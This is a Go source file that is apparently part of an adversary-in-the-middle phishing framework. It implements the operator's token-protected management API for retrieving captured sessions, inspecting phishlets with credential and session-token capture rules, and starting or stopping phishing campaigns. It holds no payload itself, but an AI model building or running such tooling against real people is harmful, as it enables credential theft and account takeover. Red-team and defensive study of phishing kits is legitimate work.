package core

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"

	"github.com/gorilla/mux"

	"github.com/snarelabs/snare/database/storage"
	"github.com/snarelabs/snare/log"
)

// SnareAPI is the operator-facing management surface. It is the only place
// captured material leaves the server, so every route except the health
// check requires the bearer token.
type SnareAPI struct {
	router *mux.Router
	server *http.Server
	cfg    *Config
	db     storage.Storage
	hp     *HttpProxy
	token  string
	port   int
}

type APIResponse struct {
	Success bool        `json:"success"`
	Message string      `json:"message,omitempty"`
	Data    interface{} `json:"data,omitempty"`
	Error   string      `json:"error,omitempty"`
}

type PhishletResponse struct {
	Name       string `json:"name"`
	HostCount  int    `json:"host_count"`
	Landing    string `json:"landing_host"`
	CredRules  int    `json:"credential_rules"`
	TokenRules int    `json:"token_rules"`
}

func NewSnareAPI(cfg *Config, db storage.Storage, hp *HttpProxy) *SnareAPI {
	api := &SnareAPI{
		router: mux.NewRouter(),
		cfg:    cfg,
		db:     db,
		hp:     hp,
		token:  cfg.GetApiConfig().Token,
		port:   cfg.GetApiConfig().Port,
	}
	api.setupRoutes()
	return api
}

func (api *SnareAPI) authMiddleware(next http.HandlerFunc) http.HandlerFunc {
	return func(w http.ResponseWriter, r *http.Request) {
		authHeader := r.Header.Get("Authorization")
		if authHeader == "" {
			api.sendError(w, "missing authorization header", http.StatusUnauthorized)
			return
		}
		parts := strings.Split(authHeader, " ")
		if len(parts) != 2 || parts[0] != "Bearer" {
			api.sendError(w, "invalid authorization header format", http.StatusUnauthorized)
			return
		}
		if api.token == "" || parts[1] != api.token {
			api.sendError(w, "invalid api token", http.StatusUnauthorized)
			return
		}
		next(w, r)
	}
}

func (api *SnareAPI) setupRoutes() {
	api.router.HandleFunc("/api/health", api.handleHealth).Methods("GET")

	api.router.HandleFunc("/api/sessions", api.authMiddleware(api.handleListSessions)).Methods("GET")
	api.router.HandleFunc("/api/sessions/{id}", api.authMiddleware(api.handleGetSession)).Methods("GET")
	api.router.HandleFunc("/api/sessions/{id}", api.authMiddleware(api.handleDeleteSession)).Methods("DELETE")
	api.router.HandleFunc("/api/sessions/{id}/close", api.authMiddleware(api.handleCloseSession)).Methods("POST")

	api.router.HandleFunc("/api/phishlets", api.authMiddleware(api.handleListPhishlets)).Methods("GET")
	api.router.HandleFunc("/api/phishlets/{name}", api.authMiddleware(api.handleGetPhishlet)).Methods("GET")

	api.router.HandleFunc("/api/campaigns", api.authMiddleware(api.handleListCampaigns)).Methods("GET")
	api.router.HandleFunc("/api/campaigns", api.authMiddleware(api.handleCreateCampaign)).Methods("POST")
	api.router.HandleFunc("/api/campaigns/{id}/start", api.authMiddleware(api.handleStartCampaign)).Methods("POST")
	api.router.HandleFunc("/api/campaigns/{id}/stop", api.authMiddleware(api.handleStopCampaign)).Methods("POST")
	api.router.HandleFunc("/api/campaigns/{id}", api.authMiddleware(api.handleDeleteCampaign)).Methods("DELETE")
}

func (api *SnareAPI) sendJSON(w http.ResponseWriter, data interface{}, status int) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	json.NewEncoder(w).Encode(data)
}

func (api *SnareAPI) sendSuccess(w http.ResponseWriter, message string, data interface{}) {
	api.sendJSON(w, APIResponse{Success: true, Message: message, Data: data}, http.StatusOK)
}

func (api *SnareAPI) sendError(w http.ResponseWriter, error string, status int) {
	api.sendJSON(w, APIResponse{Success: false, Error: error}, status)
}

func (api *SnareAPI) handleHealth(w http.ResponseWriter, r *http.Request) {
	api.sendSuccess(w, "ok", map[string]interface{}{
		"time": time.Now().UTC().Format(time.RFC3339),
	})
}

func (api *SnareAPI) handleListSessions(w http.ResponseWriter, r *http.Request) {
	sessions, err := api.db.ListSessions(r.Context())
	if err != nil {
		api.sendError(w, err.Error(), http.StatusInternalServerError)
		return
	}
	api.sendSuccess(w, "", sessions)
}

func (api *SnareAPI) handleGetSession(w http.ResponseWriter, r *http.Request) {
	sid := mux.Vars(r)["id"]
	s, err := api.db.GetSession(r.Context(), sid)
	if err != nil {
		api.sendError(w, "session not found", http.StatusNotFound)
		return
	}
	api.sendSuccess(w, "", s)
}

func (api *SnareAPI) handleDeleteSession(w http.ResponseWriter, r *http.Request) {
	sid := mux.Vars(r)["id"]
	if api.hp != nil {
		api.hp.tracker.Close(sid)
	}
	if err := api.db.DeleteSession(r.Context(), sid); err != nil {
		api.sendError(w, "session not found", http.StatusNotFound)
		return
	}
	api.sendSuccess(w, "session deleted", nil)
}

func (api *SnareAPI) handleCloseSession(w http.ResponseWriter, r *http.Request) {
	sid := mux.Vars(r)["id"]
	if api.hp != nil {
		api.hp.tracker.Close(sid)
	}
	if err := api.db.UpdateStatus(r.Context(), sid, StatusClosed); err != nil {
		api.sendError(w, "session not found", http.StatusNotFound)
		return
	}
	api.sendSuccess(w, "session closed", nil)
}

func (api *SnareAPI) handleListPhishlets(w http.ResponseWriter, r *http.Request) {
	var out []PhishletResponse
	for _, name := range api.cfg.GetPhishletNames() {
		pl, err := api.cfg.GetPhishlet(name)
		if err != nil {
			continue
		}
		lh := pl.LandingHost()
		out = append(out, PhishletResponse{
			Name:       pl.Name,
			HostCount:  len(pl.ProxyHosts()),
			Landing:    combineHost(lh.PhishSub, lh.Domain),
			CredRules:  len(pl.CredentialRules()),
			TokenRules: len(pl.AuthTokenRules()),
		})
	}
	api.sendSuccess(w, "", out)
}

func (api *SnareAPI) handleGetPhishlet(w http.ResponseWriter, r *http.Request) {
	name := mux.Vars(r)["name"]
	pl, err := api.cfg.GetPhishlet(name)
	if err != nil {
		api.sendError(w, "phishlet not found", http.StatusNotFound)
		return
	}
	data, err := pl.Marshal()
	if err != nil {
		api.sendError(w, err.Error(), http.StatusInternalServerError)
		return
	}
	w.Header().Set("Content-Type", "application/yaml")
	w.WriteHeader(http.StatusOK)
	w.Write(data)
}

func (api *SnareAPI) handleListCampaigns(w http.ResponseWriter, r *http.Request) {
	api.sendSuccess(w, "", api.cfg.GetCampaigns())
}

func (api *SnareAPI) handleCreateCampaign(w http.ResponseWriter, r *http.Request) {
	var cm Campaign
	if err := json.NewDecoder(r.Body).Decode(&cm); err != nil {
		api.sendError(w, "invalid request body", http.StatusBadRequest)
		return
	}
	cm.Active = false
	if err := api.cfg.AddCampaign(&cm); err != nil {
		api.sendError(w, err.Error(), http.StatusBadRequest)
		return
	}
	api.sendSuccess(w, "campaign created", cm)
}

func (api *SnareAPI) handleStartCampaign(w http.ResponseWriter, r *http.Request) {
	id := mux.Vars(r)["id"]
	cm, err := api.cfg.GetCampaign(id)
	if err != nil {
		api.sendError(w, err.Error(), http.StatusNotFound)
		return
	}
	if err := api.hp.ActivateCampaign(cm); err != nil {
		api.sendError(w, err.Error(), http.StatusBadRequest)
		return
	}
	if err := api.cfg.SetCampaignActive(id, true); err != nil {
		api.hp.DeactivateCampaign(id)
		api.sendError(w, err.Error(), http.StatusBadRequest)
		return
	}
	api.sendSuccess(w, "campaign started", cm)
}

func (api *SnareAPI) handleStopCampaign(w http.ResponseWriter, r *http.Request) {
	id := mux.Vars(r)["id"]
	if err := api.cfg.SetCampaignActive(id, false); err != nil {
		api.sendError(w, err.Error(), http.StatusNotFound)
		return
	}
	api.hp.DeactivateCampaign(id)
	api.sendSuccess(w, "campaign stopped", nil)
}

func (api *SnareAPI) handleDeleteCampaign(w http.ResponseWriter, r *http.Request) {
	id := mux.Vars(r)["id"]
	api.hp.DeactivateCampaign(id)
	if err := api.cfg.DeleteCampaign(id); err != nil {
		api.sendError(w, err.Error(), http.StatusNotFound)
		return
	}
	api.sendSuccess(w, "campaign deleted, sessions retained", nil)
}

// Start serves the API over loopback HTTP. Exposure beyond localhost is the
// operator's call, via a fronting tunnel.
func (api *SnareAPI) Start() error {
	if !api.cfg.GetApiConfig().Enabled {
		return nil
	}
	if api.token == "" {
		return fmt.Errorf("api: refusing to start without an auth token")
	}
	api.server = &http.Server{
		Addr:         fmt.Sprintf("127.0.0.1:%d", api.port),
		Handler:      api.router,
		ReadTimeout:  10 * time.Second,
		WriteTimeout: 10 * time.Second,
	}
	go func() {
		if err := api.server.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			log.Error("api: %v", err)
		}
	}()
	log.Info("api: listening on 127.0.0.1:%d", api.port)
	return nil
}

func (api *SnareAPI) Stop() {
	if api.server != nil {
		api.server.Close()
	}
}
